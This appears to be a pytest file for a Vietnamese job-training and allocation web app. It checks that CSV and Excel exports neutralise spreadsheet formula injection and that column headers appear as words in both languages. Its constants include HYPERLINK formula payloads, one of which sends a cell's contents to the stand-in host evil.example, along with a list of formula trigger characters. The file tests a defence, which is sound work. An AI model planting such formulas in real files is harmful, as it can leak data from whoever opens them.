"""Every planning and allocation export, fed text that a spreadsheet would run: names
typed by someone else come in through the import, and each file (every sheet, both
languages) is read back as text, never as a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd

from api import jobs
from api.extensions import db
from api.models import AllocationPair, AllocationRun, Commitment, Course, Enterprise
from tests import factories

EVIL_ENTERPRISE = '=HYPERLINK("http://evil.example/?leak="&A2,"May Phố Nối")'
EVIL_PROVIDER = '=HYPERLINK("http://evil.example/","Trung tâm GDNN")'
EVIL_COURSE = "-2+3 May công nghiệp"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
WARD = factories.HUNG_YEN_WARD


def _import(client, auth, kind: str, rows: list[list[object]]) -> dict:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    response = client.post(
        f"/api/v1/imports/{kind}",
        data={"file": (io.BytesIO(text.getvalue().encode()), f"{kind}.csv"), "atomic": "true",
              "consent_confirmed": "true"},
        headers=auth("caseworker" if kind != "enterprises" else "admin"),
        content_type="multipart/form-data",
    )  # fmt: skip
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    report = response.get_json()
    assert not report.get("rejected"), report
    return report


def _history(client, auth) -> None:
    """Thirty months of a garment trade: an enterprise and courses imported with names
    that start with formula triggers; its commitments, graduates and hires as rows."""
    today = factories.TODAY
    _import(client, auth, "enterprises", [
        ["external_id", "name", "tax_code", "ward_code"],
        ["EVIL-1", EVIL_ENTERPRISE, "0100000001", WARD],
    ])  # fmt: skip
    first = pd.Period(today, "M") - 30
    courses = [["external_id", "name", "trade", "provider", "ward_code", "level", "start_date",
                "end_date", "capacity"]]  # fmt: skip
    for k in range(9):
        start = (first + 3 * k).to_timestamp().date()
        end = start + dt.timedelta(days=85)
        courses.append([f"EVIL-C{k}", EVIL_COURSE, "garment", EVIL_PROVIDER, WARD, "elementary",
                        start.isoformat(), end.isoformat(), 25])  # fmt: skip
    _import(client, auth, "courses", courses)
    enterprise = db.session.query(Enterprise).filter_by(external_id="EVIL-1").one()
    assert enterprise.name == EVIL_ENTERPRISE  # stored as typed; only files neutralise it
    commitments = []
    for k in range(30):
        start = (first + k).to_timestamp().date() + dt.timedelta(days=4)
        commitments.append(
            factories.commitment(
                enterprise, slots=14, start_date=start, expires_on=start + dt.timedelta(days=60)
            )
        )
    for course in db.session.query(Course).filter(Course.external_id.like("EVIL-C%")):
        if course.end_date >= today:
            continue
        for i in range(14):
            person = factories.worker()
            factories.enrollment(person, course, status="graduated", completed_on=course.end_date)
            later = [c for c in commitments if c.start_date > course.end_date][:1]
            if later and i % 3:
                factories.referral(
                    person, later[0], status="hired", hired_on=later[0].start_date,
                    referred_on=course.end_date,
                )  # fmt: skip
    db.session.commit()


def _refresh(client, auth) -> None:
    queued = client.get("/api/v1/planning/course-plan", headers=auth("planner"))
    assert queued.status_code == 202, queued.get_data(as_text=True)[:300]
    jobs.execute(queued.get_json()["id"])


def _texts_of(response) -> list[str]:
    """Every text cell of a CSV, or of every sheet of an .xlsx; formulas as "=…"."""
    if response.mimetype == "text/csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell is a formula"
    return [str(c.value) for c in cells if isinstance(c.value, str)]


def _headers_are_words(response, url: str) -> None:
    """No header reaches a planner as a code ("gap_lo80"): every one has its words."""
    from api.export_words import COLUMNS

    if response.mimetype == "text/csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        headers = [next(csv.reader(io.StringIO(text)))]
    else:
        book = openpyxl.load_workbook(io.BytesIO(response.data))
        headers = [[c.value for c in sheet[1]] for sheet in book.worksheets]
    for header in headers:
        raw = [h for h in header if h in COLUMNS or (isinstance(h, str) and "_" in h)]
        assert not raw, (url, raw)


PLANNING_EXPORTS = (
    "/api/v1/planning/series?kind=demand",
    "/api/v1/planning/forecasts?kind=demand",
    "/api/v1/planning/gaps",
    "/api/v1/planning/course-plan",
    "/api/v1/planning/placement-results?by=provider",
    "/api/v1/planning/placement-results?by=course",
    "/api/v1/planning/fairness",
)


def test_every_export_reads_back_as_text_what_came_in_as_a_formula(client, app, auth):
    _history(client, auth)
    _refresh(client, auth)
    seen: dict[str, set[str]] = {}
    for url in PLANNING_EXPORTS:
        for fmt in ("csv", "xlsx"):
            for lang in ("vi", "en"):
                response = client.get(f"{url}&format={fmt}&lang={lang}".replace("?&", "?")
                                      if "?" in url else f"{url}?format={fmt}&lang={lang}",
                                      headers=auth("planner"))  # fmt: skip
                assert response.status_code == 200, (url, fmt, response.get_data()[:300])
                texts = _texts_of(response)
                _headers_are_words(response, url)
                live = [t for t in texts if t.startswith(TRIGGERS)]
                assert not live, (url, fmt, lang, live[:3])
                seen[f"{url} {fmt}"] = set(texts)
    # The names typed in arrive, neutralised, where planners read them.
    for url in ("/api/v1/planning/course-plan", "/api/v1/planning/placement-results?by=provider"):
        for fmt in ("csv", "xlsx"):
            assert "'" + EVIL_PROVIDER in seen[f"{url} {fmt}"], (url, fmt)
    assert "'" + EVIL_COURSE in seen["/api/v1/planning/placement-results?by=course xlsx"]

    # An allocation round's proposal names the enterprise.
    commitment = db.session.query(Commitment).order_by(Commitment.id.desc()).first()
    run = AllocationRun(policy="max_hires", params={}, status="done", progress=1.0)
    db.session.add(run)
    db.session.flush()
    pair = AllocationPair(
        run_id=run.id, worker_id=factories.worker().id, commitment_id=commitment.id,
        probability=0.4, distance_km=2.0,
    )  # fmt: skip
    db.session.add(pair)
    db.session.commit()
    for fmt in ("csv", "xlsx"):
        response = client.get(
            f"/api/v1/allocations/{run.id}/export?format={fmt}", headers=auth("caseworker")
        )
        texts = _texts_of(response)
        assert "'" + EVIL_ENTERPRISE in texts
        assert not [t for t in texts if t.startswith(TRIGGERS)]


def test_exports_speak_vietnamese_unless_asked_for_english(client, app, auth):
    _history(client, auth)
    _refresh(client, auth)
    url = "/api/v1/planning/course-plan?format=xlsx"
    vi = openpyxl.load_workbook(io.BytesIO(client.get(url, headers=auth("planner")).data))
    en = openpyxl.load_workbook(
        io.BytesIO(client.get(url + "&lang=en", headers=auth("planner")).data)
    )
    assert vi.sheetnames == ["Tóm tắt", "Kế hoạch mở lớp", "Theo nghề và khu vực"]
    assert en.sheetnames == ["Summary", "Course plan", "By trade and area"]
    plan = vi["Kế hoạch mở lớp"]
    header = [c.value for c in plan[1]]
    assert header[:4] == ["Nghề", "Mã khu vực", "Khu vực", "Cơ sở đào tạo"]
    assert "Số chỗ học" in header and "Tháng khai giảng" in header
    first = [c for c in plan[2]]
    by_name = dict(zip(header, first, strict=True))
    assert by_name["Nghề"].value == "May mặc"  # a code as its word
    assert isinstance(by_name["Số chỗ học"].value, int)  # numbers stay numbers
    assert by_name["Số chỗ học"].number_format == "#,##0"
    assert by_name["Tháng khai giảng"].number_format == "mm/yyyy"
    assert [c.value for c in en["Course plan"][1]][:2] == ["Trade", "Area code"]
    assert en["Course plan"]["A2"].value == "Garment and sewing"
    summary = {row[0]: row[1] for row in vi["Tóm tắt"].iter_rows(min_row=2, values_only=True)}
    assert summary["Báo cáo"] == "Kế hoạch mở lớp"
    assert summary["Số lớp"] >= 1 and summary["Số chỗ học"] >= 10
    csv_text = client.get(
        "/api/v1/planning/course-plan?format=csv", headers=auth("planner")
    ).get_data(as_text=True)
    assert csv_text.startswith("\ufeffNghề,Mã khu vực,Khu vực,Cơ sở đào tạo")


def test_every_exported_column_has_words_in_both_languages():
    """A column without words would reach a planner as a code such as "gap_lo80"."""
    from api.export_words import COLUMNS

    for key, (vi, en, kind) in COLUMNS.items():
        assert vi and en and vi != key, key
        assert kind.split(":")[0] in {
            "text", "int", "number", "number3", "percent", "km", "money", "month", "date",
            "code", "code_list", "group", "group_ref",
        }, key  # fmt: skip
